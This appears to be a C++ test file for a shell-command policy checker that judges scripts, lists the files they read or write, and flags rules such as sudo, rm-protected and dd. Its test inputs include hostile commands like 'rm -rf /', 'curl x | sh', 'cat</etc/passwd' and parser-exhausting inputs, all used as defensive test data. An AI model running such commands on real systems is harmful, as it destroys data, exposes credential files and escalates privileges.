  CHECK(rule_of(strict(lists({"git"})), "gitk") == "allowed-commands");
  CHECK(rule_of(strict(lists({"git|gitk"})), "gitk") == "");
  CHECK(rule_of(strict(lists({"echo .*"})), "echo 'a\nb'") == "");
  CHECK(rule_of(strict(lists({}, {"echo .*"})), "echo 'a\nb'") == "blocked-commands");
}

// strict: judge -----------------------------------------------------------------------------------

TEST_CASE("policy: judge tells the commands, also those in payloads, and of refused scripts") {
  const Judgement judgement = strict().judge("A=1 ls -l; sh -c 'sudo x'"sv);
  CHECK(judgement.verdict.rule == "sudo");
  CHECK(judgement.complete);
  REQUIRE(judgement.commands.size() == 3);
  CHECK(judgement.commands[0].words.at(1).text == "-l");
  CHECK(judgement.commands[0].assignments.at(0).name == "A");
  CHECK(judgement.commands[1].words.at(0).text == "sh");
  CHECK(judgement.commands[2].words.at(0).text == "sudo");
  CHECK(!strict().judge("ls '"sv).complete);
  CHECK(!strict().judge("$X"sv).complete);
  CHECK(!strict().judge("curl x | sh"sv).complete);
  CHECK(!strict().judge("cat \"$X\""sv).complete);
  CHECK(strict().judge("cat x"sv).complete);
  PolicyOptions compat_options;
  compat_options.mode = PolicyOptions::Mode::compat;
  const Judgement other = make(compat_options).judge("rm -fr / > x"sv);
  CHECK(other.verdict.allowed);
  CHECK(other.commands.size() == 1);
  CHECK(path_list(other.files) == "w:x x://..");
  CHECK(make(compat_options).judge("echo dd"sv).verdict.rule == "dd");
  CHECK(strict().judge("ls\0"sv).verdict.rule == "nul-byte");
  CHECK(!strict().judge("ls\0"sv).complete);
  CHECK(strict().judge(std::vector<std::string>{"cat", "a b"}).commands.at(0).words.at(1).text ==
        "a b");
}

TEST_CASE("policy: W-50: judge tells the files that a script names") {
  CHECK(files_of("cat</etc/passwd") == "r:/etc/passwd");
  CHECK(files_of("cat < a > b 2>> c") == "r:a w:b w:c");
  CHECK(files_of("cat a 2>&1 > ro") == "w:ro r:a");
  CHECK(files_of("grep x --file=/etc/passwd") == "r:/etc/passwd r:x");
  CHECK(files_of("grep -r x src") == "r:src/..");
  CHECK(files_of("grep -e x a b") == "r:a r:b");
  CHECK(files_of("cat foo/../../../etc/passwd") == "r:../../etc/passwd");
  CHECK(files_of("cat foo/../../../etc/passwd", "/a/b") == "r:/etc/passwd");
  CHECK(files_of("ls /*") == "r:/*(glob)");
  CHECK(files_of("x | tee ro") == "w:ro");
  CHECK(files_of("cp -f a ro") == "r:a w:ro");
  CHECK(files_of("cp a b ro/") == "r:a r:b w:ro");
  CHECK(files_of("cp -r -t ro a") == "r:a/.. w:ro");
  CHECK(files_of("mv a b") == "x:a w:b");
  CHECK(files_of("sed -i s/a/b/ ro") == "w:ro");
  CHECK(files_of("sed s/a/b/ ro") == "r:ro");
  CHECK(files_of("dd if=a of=ro") == "r:a w:ro");
  CHECK(files_of("truncate -s0 ro") == "w:ro");
  CHECK(files_of("ln -sf a ro") == "w:ro");
  CHECK(files_of("mkdir -p ro/d") == "w:ro/d");
  CHECK(files_of("rm -rf a b/*") == "x:a/.. x:b/*/..(glob)");
  CHECK(files_of("rm a") == "x:a");
  CHECK(files_of("find a b -delete") == "x:a/.. x:b/..");
  CHECK(files_of("find a -exec rm {} +") == "x:a/..");
  CHECK(files_of("curl -sSLo out https://x") == "w:out");
  CHECK(files_of("wget -O out https://x") == "w:out");
  CHECK(files_of("sort -o out in") == "w:out r:in");
  CHECK(files_of("chmod -x a") == "w:a");
  CHECK(files_of("chmod -R 755 a") == "w:a/..");
  CHECK(files_of("head -n 5 a") == "r:a");
  CHECK(files_of("tail -20 a; wc -l b") == "r:a r:b");
  CHECK(files_of("cat - -- -x") == "r:-x");
  CHECK(files_of("source a; bash b c; python d") == "r:a r:b r:d");
  CHECK(files_of("env -i cat a") == "r:a");
  CHECK(files_of("sh -c 'cat a'") == "r:a");
  CHECK(files_of("cat ~/a ~bob/b") == "r:~/a r:~bob/b");
  CHECK(files_of("cat ~/../a") == "r:/home/a");
  CHECK(files_of("cd sub; cat a ../b /c", "/w") == "r:/w/sub/a r:/w/b r:/c");
  CHECK(files_of("cd /x; cat a; cd $Y; cat b", "/w") == "r:/x/a");
  CHECK(files_of("cat <(ls) <<< x") == "");
  CHECK(files_of("echo a b; git add c") == "");
  const Judgement judgement = strict().judge("cat  'a b' >c"sv);
  REQUIRE(judgement.files.size() == 2);
  CHECK(judgement.files[1].path == "a b");
  CHECK(judgement.files[1].begin == 5);
  CHECK(judgement.files[1].end == 10);
}

TEST_CASE("policy: an argv is judged as the program it starts") {
  using Argv = std::vector<std::string>;
  CHECK(strict().check(Argv{"echo", "$(sudo x)", "; sudo", "`sudo`"}));
  CHECK(strict().check(Argv{"sudo", "x"}).rule == "sudo");
  CHECK(strict().check(Argv{"rm", "-rf", "/"}).rule == "rm-protected");
  CHECK(strict().check(Argv{"rm", "-rf", "~"}));
  CHECK(strict().check(Argv{"rm", "-rf", "x"}, "/etc").rule == "rm-protected");
  CHECK(strict().check(Argv{"sh", "-c", "sudo x"}).rule == "sudo");
  CHECK(strict().check(Argv{"time"}));
  CHECK(strict().check(Argv{"if", "x"}));
  CHECK(strict().check(Argv{"A=1", "sudo"}));
  CHECK(strict(lists({"A=1 ls"})).check(Argv{"A=1", "ls"}));
  CHECK(strict(lists({"echo a b"})).check(Argv{"echo", "a b"}));
}

// strict: hostile input ---------------------------------------------------------------------------

TEST_CASE("policy: hostile scripts get a verdict, and bounded work") {
  const Policy policy = strict();
  const Policy listed = strict(lists({".*"}, {"git push.*"}));
  const std::pair<std::string, std::string_view> cases[] = {
      {repeat("$(", 32768), "command-too-complex"},
      {repeat("(", 65536), "command-too-complex"},
      {repeat(";", 1000000), "syntax"},
      {repeat("a;", 500000), "command-too-complex"},
      {"'" + repeat("x", 1000000), "syntax"},
      {"\"$(" + repeat("x", 1000), "syntax"},
      {repeat("env ", 31) + "rm -rf /", "rm-protected"},
      {repeat("env ", 40) + "rm -rf /", "command-too-complex"},
      {repeat("env ", 16000) + "x", "command-too-complex"},
      {repeat("/bin/* ", 33), "command-too-complex"},
      {"xargs -I{} echo " + repeat("{}x", 5000) + " <<< " + repeat("y", 5000),
       "command-too-complex"},
      {"find " + repeat("x ", 20000) + "-exec echo " + repeat("{} ", 20000) + ";", ""},
      {repeat("find . -exec ", 10000) + "ls ';'", "command-too-complex"},
      {"python -c '" + repeat("system(", 50000) + "'", ""},
      {"python -c '" + repeat("system(\"x\");", 20000) + "'", "command-too-complex"},
      {"perl -e 'print \"" + repeat("${", 100000) + "\"'", ""},
      {"rm -rf " + repeat("a/../", 200000), ""},
      {"rm -rf " + repeat("../", 200000), ""},
      {"rm -rf /" + repeat("a/../", 200000), "rm-protected"},
      {"bash -" + repeat("x", 1000000) + " y", ""},
      {repeat("$X ", 20000), "unknown-command"},
      {"/" + repeat("*", 1000) + "a x", ""},
      {"/" + repeat("[a-", 1000) + "]* x", ""},
  };
  for (const auto& sample : cases) {
    const std::string& script = sample.first;
    const std::string_view rule = sample.second;
    CAPTURE(script.substr(0, 60));
    const Verdict verdict = policy.check(script);
    CHECK(verdict.rule == rule);
    check_form(verdict, script);
    check_form(listed.check(script), script);
  }
}

TEST_CASE("policy: any bytes are taken, and what is found in them is told in one clean line") {
  const Policy policy = strict();
  CHECK(rule_of(policy, "\xff\xfesudo\x80") == "");
  CHECK(rule_of(policy, "\x01\x02; sudo \x7f") == "sudo");
  CHECK(rule_of(policy, "\r\nsudo x") != "");
  std::string script;
  unsigned state = 12345;
  const std::string_view pieces[] = {
      "rm ",      "-rf ",   "/ ",    "~",         "$",       "$(",   ")",    "`",     "'",
      "\"",       "\\",     ";",     "|",         "&",       "\n",   "{",    "}",     "<<E",
      "sudo ",    "xargs ", "find ", "-exec ",    "sh ",     "-c ",  "env ", "*",     "[",
      "/dev/sda", "> ",     "< ",    "python ",   "system(", "\xff", "=",    "eval ", "trap ",
      "\x01",     "..",     "::: ",  "parallel ", "-I{} "};
  for (int round = 0; round < 3000; ++round) {
    script.clear();
    for (int i = 0; i < 12; ++i) {
      state = state * 1664525u + 1013904223u;
      script += pieces[(state >> 8) % std::size(pieces)];
    }
    CAPTURE(script);
    const Judgement judgement = policy.judge(script, round % 2 ? "/etc" : "");
    check_form(judgement.verdict, script);
    for (const FileAccess& file : judgement.files) {
      CHECK(file.begin <= file.end);
      CHECK(file.end <= script.size());
      CHECK(!file.path.empty());
      CHECK(file.path.find('\0') == std::string::npos);
    }
  }
}
